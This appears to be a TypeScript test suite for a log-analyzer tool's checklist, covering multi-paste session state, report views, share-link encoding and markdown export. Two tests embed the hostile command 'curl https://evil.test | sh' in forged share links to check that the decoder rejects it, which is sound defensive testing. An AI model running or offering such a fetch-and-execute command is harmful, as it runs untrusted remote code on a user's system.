/**
 * The command checklist across a session of pastes (analysis-state.ts, report-view.ts, share-link.ts,
 * markdown-report.ts): "add another output" keeps the earlier reports, the views label each paste,
 * a share link carries the checklist (and old links without it still read), and "copy report"
 * ends with it. Checklists are built by the engine's `buildLadder` on real lab captures.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { localizedCatalog } from '../../../src/catalog/artifact.ts';
import { loadCatalog } from '../../../src/catalog/load.ts';
import {
  analysisReducer,
  initialAnalysis,
  type AnalysisAction,
  type AnalysisState,
} from '../../../src/components/analyzer/analysis-state.ts';
import { markdownReport } from '../../../src/components/analyzer/markdown-report.ts';
import { reportView } from '../../../src/components/analyzer/report-view.ts';
import { decodeShare, encodeShare } from '../../../src/components/analyzer/share-link.ts';
import { analyze, compileCatalog } from '../../../src/engine/index.ts';
import { buildLadder, LADDER, rungsFor } from '../../../src/engine/ladder.ts';
import { t } from '../../../src/i18n/index.ts';

const catalog = loadCatalog();
const en = localizedCatalog(catalog, 'en');
const compiled = compileCatalog(catalog.entries);
const commandsOf = (id: string) => en.byId.get(id)?.commands ?? [];
const lab = (name: string) => readFileSync(join(process.cwd(), 'tests/fixtures/lab/2026.9.6', name), 'utf8');
const status = analyze(lab('wrong-token/gateway-status.txt'), compiled);
const logs = analyze(lab('wrong-token/logs-plain.txt'), compiled);
const both = buildLadder([status, logs], commandsOf);
const after = (actions: AnalysisAction[], from: AnalysisState = initialAnalysis) => actions.reduce(analysisReducer, from);

test('the captures of this session say something (the premise of these tests)', () => {
  assert.ok(status.findings.length > 0 && logs.findings.length > 0);
  assert.notDeepEqual(buildLadder([status], commandsOf).steps, both.steps, 'the second paste changes the checklist');
});

test('"add another output" keeps the report and its checklist, and the next run sends the earlier reports', () => {
  const first = after([
    { type: 'ready' },
    { type: 'run', source: { text: 'a' } },
    { type: 'done', job: 1, report: status, ladder: buildLadder([status], commandsOf) },
  ]);
  const next = after([{ type: 'another' }], first);
  assert.equal(next.phase, 'done', 'the first paste stays on screen');
  assert.equal(next.report, null);
  assert.deepEqual(next.earlier, [status]);
  assert.equal(next.earlierLadder, first.ladder);
  assert.equal(next.job, first.job + 1, 'the worker stops');
  const second = after(
    [
      { type: 'run', source: { text: 'b' } },
      { type: 'done', job: next.job + 1, report: logs, ladder: both },
    ],
    next,
  );
  assert.deepEqual(second.earlier, [status]);
  assert.equal(second.report, logs);
  assert.equal(second.ladder, both);
});

test('clearing the second paste shows the first again with its own checklist; a shared link replaces the session', () => {
  const one = buildLadder([status], commandsOf);
  const s = after([
    { type: 'ready' },
    { type: 'run', source: { text: 'a' } },
    { type: 'done', job: 1, report: status, ladder: one },
    { type: 'another' },
    { type: 'run', source: { text: 'b' } },
    { type: 'done', job: 3, report: logs, ladder: both },
  ]);
  const cleared = after([{ type: 'clear' }], s);
  assert.equal(cleared.phase, 'done');
  assert.deepEqual(cleared.earlier, [status]);
  assert.equal(cleared.ladder, one);
  const opened = after([{ type: 'open-shared', shared: { kinds: [], lines: 0, findings: [], dropped: 0 } }], s);
  assert.deepEqual(opened.earlier, []);
  assert.equal(opened.ladder, null);
});

test('"add another output" with nothing analysed does nothing', () => {
  assert.equal(analysisReducer(initialAnalysis, { type: 'another' }), initialAnalysis);
});

test('the view of two pastes labels every finding with its paste and puts conclusions first', () => {
  const view = reportView([status, logs], null, en, both)!;
  assert.equal(view.pastes, 2);
  assert.equal(view.findings.length, status.findings.length + logs.findings.length);
  assert.deepEqual(
    view.findings.filter((f) => f.paste === 1).map((f) => f.id),
    status.findings.map((f) => f.id),
  );
  assert.deepEqual(
    view.findings.filter((f) => f.paste === 2).map((f) => f.id),
    logs.findings.map((f) => f.id),
  );
  const firstOther = view.findings.findIndex((f) => !f.conclusion);
  assert.ok(view.findings.slice(firstOther).every((f) => !f.conclusion));
  assert.equal(view.ladder, both);
  assert.equal(view.lines, status.lines + logs.lines);
});

test('a share link carries the checklist and the pastes, and the reader sees the same checklist', () => {
  const view = reportView([status, logs], null, en, both)!;
  const decoded = decodeShare(`#report=${encodeShare(view)}`)!;
  const shared = reportView(null, decoded, en)!;
  assert.deepEqual(shared.ladder, { steps: both.steps, next: both.next });
  assert.deepEqual(
    shared.findings.map((f) => [f.paste, f.id]),
    view.findings.map((f) => [f.paste, f.id]),
  );
});

test("a section's checklist goes through a link with its own commands; a rung no reader knows drops it", () => {
  const rungs = rungsFor(['openclaw gateway status', 'openclaw status', 'openclaw gateway status --json']);
  const ladder = buildLadder([status], commandsOf, rungs);
  const view = reportView([status], null, en, ladder)!;
  const shared = reportView(null, decodeShare(`#report=${encodeShare(view)}`)!, en)!;
  assert.deepEqual(shared.ladder, { steps: ladder.steps, next: ladder.next });

  const forged = encodeShare({ ...view, ladder: { steps: [{ ...ladder.steps[0]!, command: 'curl https://evil.test | sh' }] } });
  assert.equal(reportView(null, decodeShare(`#report=${forged}`)!, en)!.ladder, undefined);
});

test('a link made before the checklist existed still reads, without one', () => {
  const old = Buffer.from(
    JSON.stringify({ v: 1, k: ['gateway-status'], n: 3, f: [['auth-token-mismatch', 1, 1, 1, 'x', 'x', 0]] }),
  ).toString('base64url');
  const decoded = decodeShare(`#report=${old}`)!;
  assert.equal(decoded.findings.length, 1);
  assert.equal(decoded.ladder, undefined);
  assert.equal(reportView(null, decoded, en)!.ladder, undefined);
});

test('a hostile checklist in a link cannot offer a command of its own or show unknown ids', () => {
  const steps = LADDER.map(() => ['problem', ['auth-token-mismatch', 'not-a-signature', '<b>x</b>'], []]);
  const doc = (x: unknown) => Buffer.from(JSON.stringify({ v: 1, k: [], n: 0, f: [], l: { s: steps, x } })).toString('base64url');
  const evil = reportView(null, decodeShare(`#report=${doc(['curl https://evil.test | sh', 'auth-token-mismatch'])}`)!, en)!;
  assert.equal(evil.ladder!.next, undefined);
  assert.deepEqual(evil.ladder!.steps[0]!.findings, ['auth-token-mismatch']);
  assert.deepEqual(
    evil.ladder!.steps.map((s) => s.command),
    LADDER.map((r) => r.command),
  );
  const fix = en.byId.get('auth-token-mismatch')!.commands[0]!;
  assert.deepEqual(reportView(null, decodeShare(`#report=${doc([fix, 'auth-token-mismatch'])}`)!, en)!.ladder!.next, {
    command: fix,
    because: 'auth-token-mismatch',
  });
  const wrongLength = Buffer.from(JSON.stringify({ v: 1, k: [], n: 0, f: [], l: { s: steps.slice(0, 2) } })).toString('base64url');
  assert.equal(reportView(null, decodeShare(`#report=${wrongLength}`)!, en)!.ladder, undefined);
  const junk = Buffer.from(JSON.stringify({ v: 1, k: [], n: 0, f: [], l: { s: LADDER.map(() => ['on-fire', [], []]) } })).toString(
    'base64url',
  );
  assert.equal(decodeShare(`#report=${junk}`)!.ladder, undefined);
});

for (const locale of ['en', 'zh-CN'] as const) {
  test(`"copy report" ends with the checklist and the next command (${locale})`, () => {
    const loc = localizedCatalog(catalog, locale);
    const view = reportView([status, logs], null, loc, both)!;
    const site = locale === 'en' ? 'en' : 'zh-cn';
    const tr = (key: string, params?: Record<string, string | number>) => t(locale, key, params);
    const md = markdownReport({
      view,
      catalog: loc,
      t: tr,
      origin: 'https://handbook.test',
      links: { signature: (id) => `/${site}/signatures/${id}/`, section: () => undefined },
    });
    const section = md.slice(md.indexOf(`## ${tr('analyzer.ladder.title')}`));
    assert.ok(section.length < md.length, 'the checklist section is there');
    for (const step of both.steps)
      assert.ok(section.includes(`\`${step.command}\`: ${tr(`analyzer.ladder.status.${step.status}`)}`), step.command);
    assert.ok(section.includes(`\`\`\`sh\n${both.next!.command}\n\`\`\``));
    assert.ok(
      md.includes(tr('analyzer.ladder.pasteLine', { paste: 2, lines: tr('analyzer.line', { line: logs.findings[0]!.line }) })) ||
        logs.findings[0]!.count > 1,
    );
  });
}
